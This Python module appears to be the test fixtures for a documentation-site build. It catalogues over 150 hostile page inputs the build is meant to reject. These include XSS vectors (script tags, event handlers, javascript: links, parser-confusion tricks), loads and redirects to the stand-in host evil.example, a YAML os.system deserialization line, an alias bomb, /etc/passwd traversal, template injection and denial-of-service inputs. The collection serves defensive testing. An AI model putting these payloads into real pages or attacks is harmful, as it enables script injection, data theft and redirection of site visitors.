"""Pages by people who mean harm: each would run something in a reader's browser, load from elsewhere, or lead away.

`RUN` calls a function, which leaves a mark, and `EVIL` is a server that nobody may be sent to. A page's text is the
whole file. `LEFT_ALONE` are those that a build takes as harmless text; all others end it.
"""

from __future__ import annotations

from collections.abc import Mapping

RUN = "hacked()"
EVIL = "https://evil.example"
PIXEL = f"<img src=x onerror={RUN}>"


def _front(text: str) -> str:
    return f"---\n{text}\n---\n\n# Title\n\nText.\n"


FRONT_MATTER = {
    "title-text": _front(f"title: '{PIXEL}'"),  # shown as it is written
    "title-breaks-out": _front(f"title: 'x</title><script>{RUN}</script>'"),
    "title-list": _front(f"title: ['{PIXEL}']"),
    "title-mapping": _front(f"title: {{x: '{PIXEL}'}}"),
    "title-number": _front("title: 5"),
    "description-text": _front(f"description: '\"><script>{RUN}</script>'"),
    "description-quote": _front(f"description: 'x\" http-equiv=refresh content=\"0;url={EVIL}'"),
    "description-list": _front(f"description: ['{PIXEL}']"),
    "subtitle": _front(f"subtitle: '{PIXEL}'"),
    "status": _front(f"status: 'x\"><script>{RUN}</script>'"),
    "author": _front(f"author: '\"><script>{RUN}</script>'"),
    "icon": _front("icon: ../../../../etc/passwd"),
    "icon-missing": _front("icon: material/there-is-none"),
    "redirect": _front(f"template: redirect.html\nlocation: {EVIL}"),
    "template-missing": _front("template: there-is-none.html"),
    "template-number": _front("template: 5"),
    "template-up": _front("template: ../../../etc/passwd"),
    "template-other": _front("template: 404.html"),
    "hide-number": _front("hide: 5"),
    "hide-text": _front("hide: navigation"),
    "hide-unknown": _front("hide: [path]"),
    "search-number": _front("search: 5"),
    "search-boost": _front("search: {boost: .nan}"),
    "tags": _front(f"tags: ['{PIXEL}']"),
    "robots": _front(f"robots: '\"><script>{RUN}</script>'"),
    "comments": _front("comments: true"),
    "social": _front(f"social: {{cards_layout_options: {{title: '{PIXEL}'}}}}"),
    "needs-number": _front("needs: 5"),
    "needs-markup": _front(f"needs: ['{PIXEL}']"),
    "needs-up": _front("needs: ['../../../etc/passwd']"),
    "object": _front("title: !!python/object/apply:os.system ['id']"),
    "timestamp": _front("hide: 2017-01-01"),
    "alias-bomb": _front(
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "\n".join(
            f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefg", "bcdefgh", strict=True)
        )
    ),
    "brackets": _front("a: " + "[" * 4000),
    "twice": _front("title: a\ntitle: b"),
    "no-end": "---\ntitle: x\n\n# Title\n",
    "no-mapping": _front("- a\n- b"),
    "broken-yaml": _front("title: 'a"),
    "long-line": _front("title: " + "x" * 400),
    "control": _front('title: "a\\u202Eb"'),
    "not-utf8": "---\ntitle: \udcff\n---\n\n# Title\n",
    "first-lines": f"template: redirect.html\nlocation: {EVIL}\n\n# Title\n",
    "first-line-status": f'status: x"><script>{RUN}</script>\n\n# Title\n',
}

HEADINGS = {
    "entity-title": f"# x&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;\n",
    "entity-numeric": f"# x&#60;/title&#62;&#60;script&#62;{RUN}&#60;/script&#62;\n",
    "entity-hex": f"# &#x3c;img src=x onerror={RUN}&#x3e;\n",
    "code-title": f"# `</title><script>{RUN}</script>`\n",
    "toc-label": f"# Title\n\n## Part {{: data-toc-label='{PIXEL}' }}\n",
    "toc-label-script": f"# Title\n\n## Part {{: data-toc-label='</a><script>{RUN}</script>' }}\n",
    "heading-id": f"# Title\n\n## Part {{: id='a\">{PIXEL}' }}\n",
    "heading-id-space": "# Title\n\n## Part {: id='a b' }\n",
    "heading-class": "# Title\n\n## Part {: class='md-search' }\n",
    "heading-event": f"# Title\n\n## Part {{: onmouseover='{RUN}' }}\n",
    "heading-style": "# Title\n\n## Part {: style='position:fixed;inset:0' }\n",
    "html-heading": f"<h1>x</h1>\n\n<h2 title='<h2' onclick={RUN}>y</h2>\n",
    "home-heading": "---\ntemplate: home.html\n---\n\n# T\n\n<h2 title='<h2 onmouseover=hacked() x='>y</h2>\n\n<h2>z</h2>\n",
}

_ACTIVE = {
    "script": f"<script>{RUN}</script>",
    "script-case": f"<ScRiPt>{RUN}</sCrIpT>",
    "script-foreign": f"<script src={EVIL}/x.js></script>",
    "script-slash": f"<script/x>{RUN}</script>",
    "script-module": f"<script type=module>{RUN}</script>",
    "script-json": '<script type="application/json" id="__config">{}</script>',
    "script-speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}"]}}]}}</script>',
    "script-importmap": '<script type=importmap>{"imports":{}}</script>',
    "image-event": PIXEL,
    "image-load": f"<img src=../assets/images/favicon.svg onload={RUN}>",
    "image-slash": f"<img/src=x/onerror={RUN}>",
    "details-event": f"<details open ontoggle={RUN}>x</details>",
    "focus-event": f"<p id=x tabindex=1 autofocus onfocus={RUN}>x</p>",
    "animation-event": f"<p class=md-top onanimationstart={RUN} onanimationend={RUN}>x</p>",
    "svg": f"<svg onload={RUN}></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-use": f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    "svg-image": f"<svg><image href='{EVIL}/x.png'/></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "math-link": f"<math><mtext href='javascript:{RUN}'>x</mtext></math>",
    "math-mixture": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{PIXEL}'>",
    "math-annotation": f"<math><annotation-xml encoding='text/html'>{PIXEL}</annotation-xml></math>",
    "iframe": f"<iframe src={EVIL}></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "frameset": f"<frameset><frame src={EVIL}></frameset>",
    "object": f"<object data={EVIL}/x.svg></object>",
    "embed": f"<embed src={EVIL}/x.svg>",
    "applet": f"<applet code=x codebase={EVIL}></applet>",
    "portal": f"<portal src={EVIL}></portal>",
    "fencedframe": f"<fencedframe src={EVIL}></fencedframe>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "meta-referrer": "<meta name=referrer content=unsafe-url>",
    "base": f"<base href={EVIL}/>",
    "link-style": f"<link rel=stylesheet href={EVIL}/x.css>",
    "link-prefetch": f"<link rel=dns-prefetch href={EVIL}>",
    "style": f"<style>@import '{EVIL}/x.css'; * {{ display: none }}</style>",
    "style-attribute": f"<div style='background:url({EVIL}/x.png)'>x</div>",
    "style-cell": f"<table><tr><td style='text-align: right; background: url({EVIL})'>x</td></tr></table>",
    "form": f"<form action={EVIL}><button>Search</button></form>",
    "input": f"<input autofocus onfocus={RUN}>",
    "button": "<button popovertarget=__search>x</button>",
    "select": f"<select autofocus onfocus={RUN}></select>",
    "textarea": "<textarea>",
    "dialog": "<dialog open>Your session has ended</dialog>",
    "template": f"<template><script>{RUN}</script></template>",
    "shadow": f"<div><template shadowrootmode=open><style>@import '{EVIL}/x.css'</style></template></div>",
    "audio": f"<audio src={EVIL}/x.mp3 autoplay></audio>",
    "video": f"<video poster={EVIL}/x.png></video>",
    "video-event": f"<video><source onerror={RUN}></video>",
    "track": f"<track src={EVIL}/x.vtt>",
    "picture": f"<picture><source srcset={EVIL}/x.png><img src=x alt=x></picture>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "noscript": f"<noscript><p title='</noscript>{PIXEL}'></noscript>",
    "noembed": f"<noembed><p title='</noembed>{PIXEL}'></noembed>",
    "xmp": f"<xmp><p title='</xmp>{PIXEL}'></xmp>",
    "plaintext": "<plaintext>",
    "title-element": f'<title><b title="</title>{PIXEL}">',
    "custom-element": "<gallery-explore></gallery-explore>",
    "custom-builtin": "<p is=gallery-explore>x</p>",
    "slot": "<slot name=x></slot>",
    "unknown-element": f"<blink onclick={RUN}>x</blink>",
    "body": f"<body onload={RUN} onpageshow={RUN} background={EVIL}/x.png>",
    "html": f"<html onmouseover={RUN} manifest={EVIL}/x>",
    "autoref": "<autoref identifier=x>x</autoref>",
    "namespace": f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
}
# A browser throws these tags away here, and what they hold with them.
_DROPPED = ("body", "html", "frameset")

_PARSERS = {
    "comment-empty": f"<!--> {PIXEL} -->",
    "comment-dash": f"<!---> {PIXEL} -->",
    "comment-bang": f"<!-- x --!> {PIXEL} -->",
    "comment-nested": f"<!-- <!-- --> {PIXEL} -->",
    "comment-newline": f"<!--\n\n--!>\n{PIXEL}\n-->",
    "cdata": f"<![CDATA[ >{PIXEL} ]]>",
    "cdata-case": f"<![cdata[ > {PIXEL} ]]>",
    "bogus": f"<!x >{PIXEL}",
    "bogus-end": f"</ >{PIXEL}</ x='>'>",
    "instruction": f"<?php > {PIXEL} ?>",
    "doctype": f"<!DOCTYPE x '>'{PIXEL}",
    "end-tags": f"</div></article></main></body></html>{PIXEL}",
    "end-script": f"</script>{PIXEL}",
    "quote-in-tag": f'<p title="a>{PIXEL}>b"">{PIXEL}',
    "no-space": f"<p title='x'onclick={RUN}>x</p>",
    "null": f"<img\x00src=x\x00onerror={RUN}>",
    "unclosed-tag": f"<img src=x onerror={RUN} ",
    "form-feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "backtick": f"<img src=`x` onerror={RUN}>",
    "attribute-slash": f"<a/href='javascript:{RUN}'>x</a>",
    "double-attribute": f"<a href='page.md' HREF='javascript:{RUN}' onclick={RUN}>x</a>",
    "table-foster": f"<table>{PIXEL}<tr><td>x</td></tr></table>",
    "select-escape": f"<select><option><p>{PIXEL}</select>",
    "markdown-inside": f"<div markdown>\n\n{PIXEL}\n\n</div>",
    "markdown-attribute": f"<div markdown='1' onclick={RUN}>x</div>",
    "fence-in-html": f"<div>\n```\n</div>{PIXEL}\n```\n</div>",
    "fence-indent": f"   ````\n   ```\n{PIXEL}\n",
    "code-unclosed": f"`` ` {PIXEL}",
    "abbreviation": f'x y\n\n*[x]: "{PIXEL}"\n\n{PIXEL}',
    "footnote": f"x[^1]\n\n[^1]: {PIXEL}",
    "admonition-title": f'!!! note "{PIXEL}"\n    x\n',
    "details-title": f'??? note "{PIXEL}"\n    x\n',
    "definition": f"x\n: {PIXEL}",
    "table-cell": f"|a|b|\n|-|-|\n|{PIXEL}|x|\n",
    "fence-title": f'```py title="{PIXEL}"\nx\n```\n\n{PIXEL}',
    "attr-list": f"x\n{{: onclick='{RUN}' }}\n",
    "attr-list-inline": f"*x*{{: onmouseover={RUN} }}",
    "attr-list-image": f"![x](x.png){{: onerror={RUN} }}",
    "attr-list-fence": f"```{{.py onclick={RUN}}}\nx\n```\n\n{PIXEL}",
    "many-deep": "<div>" * 400 + PIXEL,
}
# What is left of it has no harm in it: a browser, too, takes it for text.
_SHOWN = ("unclosed-tag", "attribute-slash", "fence-in-html")

_ADDRESSES = {
    "javascript": f"[x](javascript:{RUN})",
    "javascript-brackets": f"[x](<javascript:{RUN}>)",
    "javascript-case": f"<a href='JaVaScRiPt:{RUN}'>x</a>",
    "javascript-tab": f"<a href='java\tscript:{RUN}'>x</a>",
    "javascript-entity": f"<a href='&#106;avascript&#58;{RUN}'>x</a>",
    "javascript-colon": f"<a href='javascript&colon;{RUN}'>x</a>",
    "javascript-control": f"<a href='&#1;javascript:{RUN}'>x</a>",
    "javascript-newline": f"<a href='java&NewLine;script:{RUN}'>x</a>",
    "reference": f"[x][1]\n\n[1]: javascript:{RUN}",
    "autolink": f"<javascript:{RUN}>",
    "data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "vbscript": "<a href='vbscript:x'>x</a>",
    "blob": "<a href='blob:https://evil.example/x'>x</a>",
    "file": "<a href='file:///etc/passwd'>x</a>",
    "view-source": "<a href='view-source:http://x'>x</a>",
    "tel": "<a href='tel:+4900'>x</a>",
    "image-foreign": f"![x]({EVIL}/p.png)",
    "image-slashes": "![x](//evil.example/p.png)",
    "image-backslash": "![x](/\\evil.example/p.png)",
    "image-backslashes": "<img src='\\\\evil.example/p.png' alt=x>",
    "image-mixed": "<img src='\\/evil.example/p.png' alt=x>",
    "image-tab": "<img src='/\t/evil.example/p.png' alt=x>",
    "image-newline": "<img src='/\n/evil.example/p.png' alt=x>",
    "image-space": f"<img src=' {EVIL}/p.png' alt=x>",
    "image-scheme-only": "<img src='https:evil.example/p.png' alt=x>",
    "image-scheme-slash": "<img src='https:/evil.example/p.png' alt=x>",
    "image-data": "<img src='data:image/svg+xml,<svg/>' alt=x>",
    "image-root": "<img src='/p.png' alt=x>",
    "image-element": f"<image src={EVIL}/p.png>",
    "srcset": f"<img src=x.png srcset='x.png 1x, {EVIL}/p.png 2x' alt=x>",
    "lowsrc": f"<img src=x.png lowsrc={EVIL}/p.png alt=x>",
    "longdesc": f"<img src=x.png longdesc={EVIL}/p alt=x>",
    "ping": f"<a href=page.md ping={EVIL}>x</a>",
    "target": "<a href=page.md target=x>x</a>",
    "download": "<a href=page.md download=x.exe>x</a>",
    "attribution": f"<img src=x.png attributionsrc={EVIL} alt=x>",
    "table-background": f"<table background={EVIL}/p.png><tr><td>x</td></tr></table>",
    "cell-background": f"<table><tr><td background={EVIL}/p.png>x</td></tr></table>",
    "cite": f"<blockquote cite='{EVIL}'>x</blockquote>",
    "link-slashes": "<a href='//evil.example'>x</a>",
    "link-backslash": "<a href='/\\evil.example'>x</a>",
    "link-user": "<a href='https://trusted.example@evil.example/'>x</a>",
    "link-space": "<a href='https://evil.example/ x'>x</a>",
}

_CLOBBER = {
    "config": '<div id="__config">{"base":"https://evil.example","features":[],"search":"https://evil.example/x.js"}</div>',
    "strings": "<div id=__strings>{}</div>",
    "search": "<div id=__search></div>",
    "drawer": "## Part {#__drawer}",
    "palette": "<p id='__palette_0'>x</p>",
    "id-markup": f"<p id='\"><script>{RUN}</script>'>x</p>",
    "same-id": "<p id=a>x</p>\n\n<p id=a>y</p>",
    "name": "<img name=currentScript src=x.png alt=x>",
    "name-form": "<p name=forms>x</p>",
    "component": "<div data-md-component=search>x</div>",
    "component-announce": "<div data-md-component=announce>x</div>",
    "data": "<div data-md-color-scheme=x>x</div>",
    "mermaid": "<pre class=mermaid>graph TD; a-->b</pre>",
    "class-theme": "<div class=md-overlay>x</div>",
    "class-tool": "<div class=sc-lightbox>x</div>",
    "slot-attribute": "<p slot=x>y</p>",
    "contenteditable": "<p contenteditable>y</p>",
    "accesskey": "<p accesskey=s>y</p>",
    "placeholder": '<div data-gallery-call="0"></div>',
    "placeholder-inline": 'x <span data-gallery-call="0">y</span>',
    "placeholder-attribute": "x\n{: data-gallery-call=0 }",
    "aria": "<p role=alert aria-live=assertive>Your session has ended</p>",
    "hidden": "<p hidden>x</p>",
    "inert": "<div inert>x</div>",
    "popover": "<div popover>x</div>",
    "itemscope": f"<p itemscope itemid={EVIL}>x</p>",
}

CALLS = {
    "unknown": "{{ evil() }}",
    "loop": "{{ range(10**9)|list }}",
    "attribute": "{{ ''.__class__ }}",
    "statement-call": "{{ config.__class__ }}",
    "formula-link": "$\\href{javascript:hacked()}{x}$",
    "formula-html": f"$\\html{{{PIXEL}}}$",
    "formula-deep": "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$",
}

# `:::` is text on a page that people write, whatever stands around it.
DIRECTIVES = {
    "module": "# T\n\n::: evil_module\n",
    "click": "# T\n\n::: mkdocs-click\n    :module: evil_module\n    :command: main\n",
    "extension": "# T\n\n::: gallery_gen.nn.conv2d\n    options:\n      extensions: [evil_module.py]\n",
    "between-fences": "# T\n\n~~~\n```\n~~~\n\n::: mkdocs-click\n    :module: evil_module\n    :command: main\n\n```\n",
    "fence-in-quote": "# T\n\n> ```\n\n::: mkdocs-click\n    :module: evil_module\n    :command: main\n\n> ```\n",
    "in-list": "# T\n\n- ::: mkdocs-click\n      :module: evil_module\n      :command: main\n",
    "autoref": "# T\n\n[evil_module][]\n\n[x][evil_module]\n",
}

# Shown as they are written: the harm is in their place, not in their text.
LEFT_ALONE = frozenset(
    {"front-title-text", "front-title-breaks-out", "front-description-text", "front-description-quote"}
    | {"front-first-lines"}
    | {f"heading-{name}" for name in ("entity-title", "entity-numeric", "entity-hex", "code-title")}
    | {"heading-toc-label", "heading-toc-label-script", "heading-home-heading"}
    | {f"active-{name}" for name in _DROPPED}
    | {f"parser-{name}" for name in _SHOWN}
)


def _titled(pages: Mapping[str, str]) -> dict[str, str]:
    return {name: f"# Title\n\n{text}\n" for name, text in pages.items()}


HOSTILE: Mapping[str, str] = {
    f"{kind}-{name}": text
    for kind, pages in {
        "front": FRONT_MATTER,
        "heading": HEADINGS,
        "active": _titled(_ACTIVE),
        "parser": _titled(_PARSERS),
        "address": _titled(_ADDRESSES),
        "clobber": _titled(_CLOBBER),
        "call": _titled(CALLS),
    }.items()
    for name, text in pages.items()
}
assert len(HOSTILE) >= 150

ENDLESS = {
    "brackets": "[" * 60_000,
    "tags": "<a " * 60_000,
    "footnotes": "[^1]" * 30_000 + "\n\n[^1]: x\n",
    "links": "[a](" * 20_000,
    "headings": "# a\n\n" * 20_000,
    "emphasis": "*_" * 50_000,
    "backticks": "".join("`" * n + " " for n in range(600, 0, -1)),
    "quotes": ">" * 50_000,
    "formatting": "".join(f"<b id=x{number}>" for number in range(9_000)) + "<p>" * 30_000,
    "abbreviation": "*[a]: " + "x" * 90_000 + "\n\n" + "a " * 50_000,
    "reference": f"[a]: x '{'y' * 90_000}'\n\n" + "[a] " * 25_000,
    "divs": "<div>" * 35_000,
    "comments": "<!--" * 45_000,
    "tables": "|" * 90_000 + "\n" + "|-" * 45_000,
    "definitions": "a\n: b\n" * 30_000,
    "attributes": "{: a }" * 30_000,
    "calls": "{{ x( " * 30_000,
    "formulas": "$a$ " * 45_000,
}
